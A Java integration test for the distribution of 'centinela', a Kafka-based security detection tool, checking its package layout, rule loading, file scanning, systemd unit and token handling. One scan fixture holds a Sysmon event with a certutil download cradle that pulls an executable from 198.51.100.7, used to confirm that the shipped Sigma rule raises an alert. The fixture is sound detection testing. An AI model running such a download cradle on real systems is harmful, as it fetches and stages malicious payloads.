package io.centinela.dist;

import io.centinela.kafka.PipelineHarness;
import io.centinela.testkit.EmbeddedKafkaBroker;
import io.centinela.testkit.HecTestServer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermission;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Unpacks the tarball that this build wrote into a temporary folder and runs it as a user would: no Maven, no
 * repository, only a JRE and libyara. Runs in the integration-test phase, after the tarball exists.
 */
class DistributionIT {

    @TempDir
    static Path unpacked;
    static Path home;

    @BeforeAll
    static void unpack() throws Exception {
        Path tarball = Path.of(System.getProperty("centinela.dist.tarball"));
        assertTrue(Files.isRegularFile(tarball), "no tarball at " + tarball);
        Result r = exec(unpacked, Map.of(), "tar", "xzf", tarball.toString(), "-C", unpacked.toString());
        assertEquals(0, r.code, r.out);
        try (Stream<Path> s = Files.list(unpacked)) {
            home = s.filter(Files::isDirectory).findFirst().orElseThrow();
        }
    }

    @Test
    void hasTheDocumentedLayout() throws IOException {
        for (String p : List.of("bin/centinela", "conf/centinela.yaml", "models/default/manifest.json",
                "rules/sigma", "rules/yara", "deploy/centinela.service", "deploy/Dockerfile",
                "licenses/THIRD-PARTY.txt", "README.md")) {
            assertTrue(Files.exists(home.resolve(p)), p + " missing in " + home);
        }
        Set<PosixFilePermission> perms = Files.getPosixFilePermissions(home.resolve("bin/centinela"));
        assertTrue(perms.contains(PosixFilePermission.OWNER_EXECUTE), "bin/centinela is not executable: " + perms);
        List<String> serving = jarNames(home.resolve("lib"));
        List<String> tools = jarNames(home.resolve("lib/tools"));
        assertTrue(serving.stream().anyMatch(j -> j.startsWith("centinela-cli-")), serving.toString());
        assertTrue(serving.stream().anyMatch(j -> j.startsWith("kafka-clients-")), serving.toString());
        // What `run` must not carry: the broker (Scala, log4j), PyTorch, the charts, the tools and test kit.
        for (String absent : List.of("kafka_2.13-", "scala-library-", "log4j-core-", "pytorch-", "xchart-",
                "progressbar-", "centinela-tools-", "centinela-training-", "centinela-testkit-")) {
            assertFalse(serving.stream().anyMatch(j -> j.startsWith(absent)), absent + " on the serving class path");
            assertTrue(tools.stream().anyMatch(j -> j.startsWith(absent)), absent + " not in lib/tools: " + tools);
        }
        String thirdParty = Files.readString(home.resolve("licenses/THIRD-PARTY.txt"));
        assertTrue(thirdParty.contains("kafka-clients-") && thirdParty.contains("Apache"), thirdParty);
    }

    @Test
    void versionRunsWithoutMaven() throws Exception {
        Result r = centinela("version");
        assertEquals(0, r.code, r.out);
        assertTrue(r.out.startsWith("centinela 0.") || r.out.contains("\ncentinela 0."), r.out);
    }

    @Test
    void rulesCheckLoadsTheShippedRules(@TempDir Path tmp) throws Exception {
        Path cfg = tmp.resolve("c.yaml");
        Files.writeString(cfg, """
                kafka: {bootstrap.servers: 127.0.0.1:1, topics: {t: auto}}
                rules: {builtin: false, sigma.dirs: [%s], yara.dirs: [%s]}
                """.formatted(home.resolve("rules/sigma"), home.resolve("rules/yara")));
        Result r = centinela("rules", "check", "--config", cfg.toString());
        assertEquals(0, r.code, r.out);
        assertTrue(r.out.matches("(?s).*sigma: [1-9][0-9]* rules loaded, 0 files rejected.*"), r.out);
        assertTrue(r.out.matches("(?s).*yara: [1-9][0-9]* rules loaded, 0 files rejected.*"), r.out);
    }

    @Test
    void scanAnalysesAFileWithTheShippedRulesAndModel(@TempDir Path tmp) throws Exception {
        Path events = tmp.resolve("events.jsonl");
        // A certutil download cradle (one of the project's own Sigma rules) and an ordinary process start.
        Files.writeString(events, String.join("\n",
                "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\","
                        + "\"Hostname\":\"ws1\",\"TimeCreated\":\"2026-12-01T10:00:00Z\",\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
                        + "\"CommandLine\":\"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\\\Users\\\\Public\\\\a.exe\"}",
                "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"SourceName\":\"Microsoft-Windows-Sysmon\","
                        + "\"Hostname\":\"ws1\",\"TimeCreated\":\"2026-12-01T10:00:01Z\",\"Image\":\"C:\\\\Windows\\\\notepad.exe\","
                        + "\"CommandLine\":\"notepad.exe\"}", ""));
        Path out = tmp.resolve("alerts.jsonl");
        Result r = centinela("scan", "--out", out.toString(), events.toString());
        assertEquals(0, r.code, r.out);
        assertTrue(r.out.contains("2 events read"), r.out);
        String alerts = Files.readString(out);
        assertTrue(alerts.contains("Certutil"), "the certutil download is alerted\n" + alerts + r.out);
    }

    @Test
    void theUnitFilesExecStartRunsTheDistribution(@TempDir Path tmp) throws Exception {
        String unit = Files.readString(home.resolve("deploy/centinela.service"));
        String execStart = unit.lines().filter(l -> l.startsWith("ExecStart=")).findFirst().orElseThrow()
                .substring("ExecStart=".length());
        // The unit's paths, mapped to this unpacked copy: /opt/centinela -> home, /etc/centinela -> tmp.
        Path cfg = tmp.resolve("centinela.yaml");
        Files.writeString(cfg, "kafka: {bootstrap.servers: 127.0.0.1:1, topics: {t: auto}}\npipeline: {workers: -3}\n");
        String cmd = execStart.replace("/opt/centinela", home.toString()).replace("/etc/centinela", tmp.toString());
        assertTrue(cmd.startsWith(home + "/bin/centinela run --config "), cmd);
        Result r = exec(tmp, Map.of("CENTINELA_NO_INSTALL", "1"), cmd.split(" "));
        // A bad config fails at start with the key and exit code 2 (RestartPreventExitStatus=2 in the unit).
        assertEquals(2, r.code, r.out);
        assertTrue(r.out.contains("pipeline.workers"), r.out);
        assertTrue(unit.contains("RestartPreventExitStatus=2"), unit);
    }

    @Test
    void runNeedsNothingFromLibTools(@TempDir Path tmp) throws Exception {
        Path copy = tmp.resolve("serving-only");
        assertEquals(0, exec(tmp, Map.of(), "cp", "-a", home.toString(), copy.toString()).code);
        assertEquals(0, exec(tmp, Map.of(), "rm", "-rf", copy.resolve("lib/tools").toString()).code);
        Path cfg = tmp.resolve("c.yaml");
        Files.writeString(cfg, "kafka: {bootstrap.servers: 127.0.0.1:1, topics: {t: auto}}\npipeline: {workers: -3}\n");
        Result run = exec(tmp, Map.of("CENTINELA_NO_INSTALL", "1"),
                copy.resolve("bin/centinela").toString(), "run", "--config", cfg.toString());
        assertEquals(2, run.code, run.out);
        assertTrue(run.out.contains("pipeline.workers"), run.out);
        Result demo = exec(tmp, Map.of("CENTINELA_NO_INSTALL", "1"), copy.resolve("bin/centinela").toString(), "demo");
        assertEquals(2, demo.code, demo.out);
        assertTrue(demo.out.contains("'demo' is a tool command"), demo.out);
        assertEquals(1, demo.out.strip().lines().count(), demo.out);
    }

    @Test
    void runFromLibAloneConsumesScoresAndDelivers(@TempDir Path tmp) throws Exception {
        Path copy = tmp.resolve("serving-only");
        assertEquals(0, exec(tmp, Map.of(), "cp", "-a", home.toString(), copy.toString()).code);
        assertEquals(0, exec(tmp, Map.of(), "rm", "-rf", copy.resolve("lib/tools").toString()).code);
        try (EmbeddedKafkaBroker broker = new EmbeddedKafkaBroker().start();
             HecTestServer hec = new HecTestServer(PipelineHarness.TOKEN)) {
            PipelineHarness h = new PipelineHarness(broker, 2);
            h.produceMix(300, true);
            Path cfg = tmp.resolve("centinela.yaml");
            Files.writeString(cfg, String.join("\n",
                    "kafka:",
                    "  bootstrap.servers: " + broker.bootstrapServers(),
                    "  group.id: " + h.group,
                    "  topics: {" + h.topic + ": auto}",
                    "hec:",
                    "  urls: [" + hec.uri() + "]",
                    "  token: ${HEC_TOKEN}",
                    "  allow.plaintext: true",
                    ""));
            ProcessBuilder pb = new ProcessBuilder(copy.resolve("bin/centinela").toString(), "run", "--config",
                    cfg.toString()).redirectErrorStream(true).redirectOutput(tmp.resolve("run.log").toFile());
            pb.environment().put("HEC_TOKEN", PipelineHarness.TOKEN);
            pb.environment().put("CENTINELA_NO_INSTALL", "1");
            pb.environment().put("CENTINELA_JAVA_OPTS", "-Xmx1g");
            Process p = pb.start();
            try {
                h.awaitCommittedToEnd(Duration.ofSeconds(150));
                p.destroy(); // SIGTERM: drain and commit
                assertTrue(p.waitFor(60, TimeUnit.SECONDS), "exits after SIGTERM");
            } finally {
                p.destroyForcibly();
            }
            String log = Files.readString(tmp.resolve("run.log"));
            assertEquals(h.endOffsets(), h.committed(), log);
            assertFalse(PipelineHarness.deliveredOrigins(hec).isEmpty(), "alerts reached HEC\n" + log);
            assertTrue(log.contains("model centinela-minilm-default"), "the shipped model loads from lib/\n" + log);
            assertFalse(log.contains(PipelineHarness.TOKEN), "the token is never logged");
        }
    }

    static List<String> jarNames(Path dir) throws IOException {
        try (Stream<Path> s = Files.list(dir)) {
            return s.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".jar")).sorted().toList();
        }
    }

    record Result(int code, String out) {
    }

    static Result centinela(String... args) throws Exception {
        List<String> cmd = new ArrayList<>();
        cmd.add(home.resolve("bin/centinela").toString());
        cmd.addAll(List.of(args));
        return exec(home, Map.of("CENTINELA_NO_INSTALL", "1"), cmd.toArray(String[]::new));
    }

    static Result exec(Path dir, Map<String, String> env, String... cmd) throws Exception {
        ProcessBuilder pb = new ProcessBuilder(cmd).directory(dir.toFile()).redirectErrorStream(true);
        pb.environment().putAll(env);
        pb.environment().remove("CENTINELA_VERBOSE");
        Process p = pb.start();
        byte[] out = p.getInputStream().readAllBytes();
        assertTrue(p.waitFor(180, TimeUnit.SECONDS), "timed out: " + String.join(" ", cmd));
        return new Result(p.exitValue(), new String(out, StandardCharsets.UTF_8));
    }
}
